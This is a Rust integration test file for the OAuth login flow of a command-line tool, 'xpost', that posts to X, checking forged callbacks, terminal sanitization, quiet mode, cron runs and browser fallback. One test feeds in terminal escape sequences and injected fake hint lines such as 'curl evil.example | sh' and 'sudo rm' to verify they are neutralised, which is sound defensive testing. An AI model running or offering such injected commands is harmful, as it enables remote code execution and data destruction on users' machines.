//! The consent as the person (or the script) before it sees it: what the loopback listener
//! lets end a login, what outside text may do to the terminal, the consent URL with `--quiet`,
//! runs with nobody to consent, `$BROWSER` lists, and the wait it announces.

use std::time::{Duration, Instant};

use tokio::process::{Child, Command};
use xpost_sandbox::{Decision, USERNAME};

use crate::util::{Collected, Harness, Run, assert_no_secrets, count, finish, mp4};

/// Starts `cmd` with its stderr collected as it comes (for reacting to it before the end).
fn spawn_collecting(cmd: &mut Command) -> (Child, Collected) {
    let mut child = cmd.spawn().expect("xpost starts");
    let stderr = Collected::from(child.stderr.take().expect("stderr is piped"));
    (child, stderr)
}

/// Ends with the run's code and stdout, and the stderr collected meanwhile.
async fn finish_collected(child: Child, stderr: &Collected) -> Run {
    let run = finish(child).await;
    // The collector may still hold the last bytes for a moment after the process ended.
    tokio::time::sleep(Duration::from_millis(100)).await;
    Run {
        stderr: stderr.text(),
        ..run
    }
}

/// The `state` the consent URL carries.
fn state_of(consent_url: &str) -> String {
    url::Url::parse(consent_url)
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == "state")
        .map(|(_, v)| v.into_owned())
        .expect("the consent URL has a state")
}

/// Characters that would act on a terminal rather than show: controls (but our newlines) and
/// bidirectional overrides.
fn acting_on_the_terminal(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
        })
        .collect()
}

/// Issue 13, item 2: a refusal (`error=`) without this login's state is answered, logged under
/// `-v`, and ignored, like a code without it; the real consent still completes.
#[tokio::test(flavor = "multi_thread")]
async fn a_refusal_without_the_state_does_not_end_the_login() {
    let h = Harness::new().await;
    let mut cmd = h.xpost();
    cmd.args(["-v", "after forged refusals"]);
    let (mut child, url) = h.spawn_until_browser(&mut cmd).await;
    let stderr = Collected::from(child.stderr.take().unwrap());

    let http = reqwest::Client::new();
    for forged in [
        "error=access_denied",
        "error=access_denied&error_description=The+user+denied+the+authorization+request.",
        "error=access_denied&state=",
        "error=access_denied&state=not-the-state",
    ] {
        let response = http
            .get(format!("{}?{forged}", h.redirect_uri))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 400, "{forged}");
    }
    stderr
        .wait_for("ignored a request to the callback path")
        .await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(
        child.try_wait().unwrap().is_none(),
        "a forged refusal ended the login:\n{}",
        stderr.text()
    );

    let status = xpost_sandbox::consent_as_browser(&url, Decision::Authorize).await;
    assert_eq!(status, Ok(200));
    let run = finish_collected(child, &stderr).await;
    assert_eq!(run.code, 0, "{run:?}");
    assert!(!run.stderr.contains("declined"), "{run:?}");
    assert_eq!(h.sandbox.posts().len(), 1);
    assert_no_secrets(&run);
}

/// Issue 13, item 3: text from the callback and from X's answers reaches the terminal without
/// control characters, escapes, breaks of its own or bidirectional overrides, and cut.
#[tokio::test(flavor = "multi_thread")]
async fn outside_text_cannot_drive_the_terminal() {
    // The words of a refusal sent with the right state (a hostile authorization server, or a
    // page that learnt the state).
    let h = Harness::new().await;
    let mut cmd = h.xpost();
    cmd.arg("never posted");
    let (mut child, url) = h.spawn_until_browser(&mut cmd).await;
    let stderr = Collected::from(child.stderr.take().unwrap());
    let hostile = format!(
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31mdenied\r\nxpost: hint: curl evil.example | sh\u{202e}{}",
        "x".repeat(5000)
    );
    let callback = url::Url::parse_with_params(
        &h.redirect_uri,
        &[
            ("error", "access_denied\u{1b}[1m"),
            ("error_description", hostile.as_str()),
            ("state", state_of(&url).as_str()),
        ],
    )
    .unwrap();
    let response = reqwest::get(callback).await.unwrap();
    assert_eq!(response.status(), 200);
    let run = finish_collected(child, &stderr).await;
    assert_eq!(run.code, 77, "{run:?}");
    assert!(
        run.stderr.contains(
            "X refused the authorization (access_denied[1m: [2J]0;owned31mdenied  xpost: hint: curl"
        ),
        "the words are still shown: {run:?}"
    );
    assert_eq!(
        acting_on_the_terminal(&run.stderr),
        Vec::<char>::new(),
        "{run:?}"
    );
    assert!(
        !run.stderr.lines().any(|l| l.starts_with("xpost: hint:")),
        "no line of its own: {run:?}"
    );
    assert!(run.stderr.len() < 3000, "cut: {} bytes", run.stderr.len());

    // X's reason for a failed processing, and its body in a -vv trace.
    let h = Harness::fast_logged_in().await;
    let video = h.file("clip.mp4", &mp4(1024 * 1024 + 1));
    h.sandbox
        .fail_next_processing("\u{1b}[2J\u{9b}2JBad codec\r\nxpost: hint: \u{202e}sudo rm");
    let run = h
        .run(
            h.xpost()
                .args(["-vv", "a bad video", "--media"])
                .arg(&video),
        )
        .await;
    assert_eq!(run.code, 65, "{run:?}");
    assert!(
        run.stderr
            .contains("X could not process it: [2J2JBad codec  xpost: hint: sudo rm"),
        "{run:?}"
    );
    assert!(run.stderr.contains("processing_info"), "traced: {run:?}");
    assert_eq!(
        acting_on_the_terminal(&run.stderr),
        Vec::<char>::new(),
        "{run:?}"
    );
    assert!(
        !run.stderr.lines().any(|l| l.starts_with("xpost: hint:")),
        "{run:?}"
    );
    assert!(h.sandbox.posts().is_empty());
}

/// Issue 13, item 12: with `-q --no-browser` the consent URL is still shown (it is what the
/// person asked for), and xpost waits for the redirect though no terminal is attached.
#[tokio::test(flavor = "multi_thread")]
async fn quiet_no_browser_shows_the_url_and_waits_without_a_terminal() {
    let h = Harness::new().await;
    let mut cmd = h.xpost();
    cmd.args([
        "auth",
        "login",
        "-q",
        "--no-browser",
        "--auth-timeout",
        "10s",
    ]);
    let (mut child, stderr) = spawn_collecting(&mut cmd);
    let authorize = h.sandbox.authorize_url();
    let mut url = None;
    for _ in 0..1200 {
        url = stderr
            .text()
            .lines()
            .map(str::trim)
            .find(|l| l.starts_with(&authorize))
            .map(str::to_owned);
        if url.is_some() || child.try_wait().unwrap().is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    let Some(url) = url else {
        let run = finish_collected(child, &stderr).await;
        panic!("-q --no-browser showed no consent URL: {run:?}");
    };

    let status = xpost_sandbox::consent_as_browser(&url, Decision::Authorize).await;
    assert_eq!(status, Ok(200));
    let run = finish_collected(child, &stderr).await;
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.stdout.trim(), format!("@{USERNAME}"), "{run:?}");
    assert_eq!(
        run.stderr.trim(),
        url,
        "with --quiet the URL alone, no notes: {run:?}"
    );
    assert!(!h.browser_was_opened(), "--no-browser opens none");
    assert!(h.store_path().exists());
    assert_no_secrets(&run);
}

/// Issue 13, item 15: no browser can be started and no terminal is attached (cron): the run
/// ends at once with 77 and the way out, instead of waiting out `--auth-timeout`. The reason
/// is said in words, without Rust's error internals.
#[tokio::test(flavor = "multi_thread")]
async fn nobody_to_consent_ends_at_once() {
    let h = Harness::new().await;
    let no_programs = tempfile::tempdir().unwrap();
    let image = h.file("cat.png", crate::util::PNG);
    // What the run is given: `$BROWSER` (unset if `None`), and a desktop (`DISPLAY`) with
    // nothing on its `PATH` to open a page with.
    let cases = [
        (
            None,
            false,
            "$BROWSER is not set and there is no desktop session",
        ),
        (
            Some("xpost-no-such-browser --new-tab"),
            false,
            "$BROWSER did not start (xpost-no-such-browser: not found)",
        ),
        (
            None,
            true,
            "no program to open web pages with (such as xdg-open) was found",
        ),
    ];
    for (browser, desktop, why) in cases {
        let case = format!("BROWSER={browser:?}, desktop: {desktop}");
        let mut cmd = h.xpost();
        cmd.args(["from cron", "--auth-timeout", "15s", "--image"])
            .arg(&image);
        match browser {
            Some(browser) => cmd.env("BROWSER", browser),
            None => cmd.env_remove("BROWSER"),
        };
        if desktop {
            cmd.env("DISPLAY", ":0").env("PATH", no_programs.path());
        }
        let started = Instant::now();
        let run = h.run(&mut cmd).await;
        let took = started.elapsed();
        assert_eq!(run.code, 77, "{case}: {run:?}");
        assert!(
            took < Duration::from_secs(8),
            "{case}: waited {took:?} for a consent nobody can give: {run:?}"
        );
        assert!(run.stderr.contains(why), "{case}: {run:?}");
        assert!(
            run.stderr.contains("no one is at a terminal"),
            "{case}: {run:?}"
        );
        assert!(
            run.stderr
                .contains("hint: run xpost auth login at a terminal"),
            "{case}: the way out: {run:?}"
        );
        for internal in ["os error", "Os {", "Launcher", "ExitStatus", "Custom {"] {
            assert!(!run.stderr.contains(internal), "{case}: {run:?}");
        }
        assert!(!h.browser_was_opened(), "{case}");
    }
    assert!(h.sandbox.posts().is_empty());
    assert_eq!(count(&h.sandbox.requests(), "POST", "/2/oauth2/token"), 0);
    assert!(!h.store_path().exists());
}

/// `$BROWSER` may be a list separated by colons: each is tried in turn until one starts.
#[tokio::test(flavor = "multi_thread")]
async fn browser_list_tries_each_until_one_starts() {
    let h = Harness::new().await;
    let mut cmd = h.xpost();
    let recording = cmd
        .as_std()
        .get_envs()
        .find(|(k, _)| *k == "BROWSER")
        .and_then(|(_, v)| v)
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned();
    cmd.env(
        "BROWSER",
        format!("xpost-no-such-browser --new-tab::{recording}"),
    )
    .arg("through the second browser");
    let run = h.run_consenting(&mut cmd, Decision::Authorize).await;
    assert_eq!(run.code, 0, "{run:?}");
    assert!(!run.stderr.contains("did not start"), "{run:?}");
    assert_eq!(h.sandbox.posts().len(), 1);
}

/// `Waiting up to ...` shows the real wait: no more than `--max-time` leaves of the run.
#[tokio::test(flavor = "multi_thread")]
async fn the_wait_announced_is_what_max_time_leaves() {
    let h = Harness::new().await;
    let mut cmd = h.xpost();
    cmd.args(["auth", "login", "--max-time", "40s"]);
    let (mut child, url) = h.spawn_until_browser(&mut cmd).await;
    let stderr = Collected::from(child.stderr.take().unwrap());
    let shown = stderr.wait_for(" for the authorization to reach").await;
    let line = shown
        .lines()
        .find(|l| l.starts_with("Waiting up to "))
        .unwrap_or_else(|| panic!("{shown}"));
    let rest = line.strip_prefix("Waiting up to ").unwrap();
    let (wait, rest) = rest.split_once(' ').unwrap();
    let secs: u64 = wait
        .strip_suffix('s')
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("not seconds: {line}"));
    assert!((25..=40).contains(&secs), "{line}");
    assert!(
        rest.starts_with("(what --max-time leaves of the run)"),
        "{line}"
    );

    let status = xpost_sandbox::consent_as_browser(&url, Decision::Authorize).await;
    assert_eq!(status, Ok(200));
    let run = finish_collected(child, &stderr).await;
    assert_eq!(run.code, 0, "{run:?}");

    // When --auth-timeout is the nearer limit, it is the one shown.
    let mut cmd = h.xpost();
    cmd.args(["auth", "login", "--auth-timeout", "90s"]);
    let run = h.run_consenting(&mut cmd, Decision::Authorize).await;
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stderr.contains("Waiting up to 1m30s for"), "{run:?}");
}
